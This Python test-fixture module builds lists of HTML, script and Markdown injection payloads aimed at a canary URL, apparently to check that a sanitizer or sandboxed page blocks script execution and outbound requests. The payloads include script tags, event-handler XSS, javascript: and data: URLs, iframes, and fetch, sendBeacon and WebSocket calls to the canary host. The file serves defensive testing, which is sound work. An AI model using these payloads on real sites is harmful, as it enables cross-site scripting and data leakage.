# ruff: noqa: E501 - one attack is one string, whole
"""HTML that tries to run script or reach another host; spliced into the page as if cleaned."""

from __future__ import annotations

_RUN = "window.hit=(window.hit||0)+1"


def attacks(canary: str) -> list[str]:
    """Return attacks that would set `window.hit` or ask `canary` (an http address)."""
    fetched = f"fetch('{canary}/fetch')"
    encoded = "data:text/html,<script>parent.hit=1</script>"
    return [
        f"<script>{_RUN};{fetched}</script>",
        f"<script src='{canary}/script.js'></script>",
        "<script src='data:text/javascript,window.hit=1'></script>",
        f"<script type=module src='{canary}/module.js'></script>",
        f"<img src='{canary}/a.png'><img src=x onerror=\"{_RUN}\">",
        f"<img srcset='{canary}/a.png 1x'><picture><source srcset='{canary}/b.png'><img></picture>",
        f"<svg onload=\"{_RUN}\"><script>{_RUN}</script><image href='{canary}/svg.png'/></svg>",
        f"<svg><use href='{canary}/use.svg#a'/></svg><svg><animate onbegin=\"{_RUN}\" attributeName=x dur=1s/></svg>",
        f"<style>@import '{canary}/i.css'; body{{background:url({canary}/bg.png)}}</style>",
        f"<link rel=stylesheet href='{canary}/l.css'><link rel=prefetch href='{canary}/pre'>",
        f"<link rel=preconnect href='{canary}'><link rel=dns-prefetch href='{canary}'>",
        f'<p style="background:url({canary}/style.png)">x</p>',
        f"<iframe src='{canary}/frame'></iframe><iframe srcdoc=\"<script>parent.hit=1</script>\"></iframe>",
        f"<iframe src=\"{encoded}\"></iframe><iframe src='javascript:parent.hit=1'></iframe>",
        f"<object data='{canary}/o'></object><embed src='{canary}/e'>",
        f"<video src='{canary}/v.mp4' autoplay poster='{canary}/p.png'></video>",
        f"<audio src='{canary}/a.mp3' autoplay></audio><track src='{canary}/t.vtt'>",
        f"<meta http-equiv=refresh content='0;url={canary}/refresh'>",
        "<meta http-equiv=refresh content='0;url=data:text/html,gone'>",
        f"<base href='{canary}/'><a href=x ping='{canary}/ping'>x</a>",
        f"<form action='{canary}/form'><input autofocus onfocus=\"{_RUN}\"><button>x</button></form>",
        f'<details open ontoggle="{_RUN}"><summary>x</summary></details>',
        f'<math><mtext><img src=x onerror="{_RUN}"></mtext></math>',
        f'<body onload="{_RUN}"><marquee onstart="{_RUN}">x</marquee>',
        f"<input type=image src='{canary}/input.png'><table background='{canary}/t.png'><td>x</table>",
        f"<portal src='{canary}/portal'></portal><fencedframe src='{canary}/ff'></fencedframe>",
    ]  # fmt: skip


def scripts(canary: str) -> list[str]:
    """Return script that a page must not be able to carry out even where it does run."""
    return [
        f"fetch('{canary}/x').catch(() => 0)",
        f"new Image().src = '{canary}/img'",
        f"navigator.sendBeacon('{canary}/beacon')",
        f"new WebSocket('{canary.replace('http', 'ws')}/ws')",
        f"new EventSource('{canary}/sse')",
        f"window.open('{canary}/window')",
        f"location.href = '{canary}/location'",
        "location.href = 'data:text/html,gone'",
        "location.href = URL.createObjectURL(new Blob(['<p>gone'], {type: 'text/html'}))",
        (
            f"document.body.appendChild(Object.assign(document.createElement('a'), "
            f"{{href: '{canary}/download', download: 'x'}})).click()"
        ),
        "eval('window.hit = 1')",
        "setTimeout('window.hit = 1', 0)",
        "new Function('window.hit = 1')()",
    ]


def markdown(canary: str) -> str:
    """Return a notice whose every paragraph tries something."""
    links = (
        f"![x]({canary}/md.png)", f"[x]({canary}/link)", "[x](javascript:window.hit=1)",
        "![x](data:image/svg+xml,<svg onload='window.hit=1'>)", f"<{canary}/auto>",
        f"[a]: {canary}/ref\n\n![a][a]",
    )  # fmt: skip
    return "\n\n".join([*attacks(canary), *links])
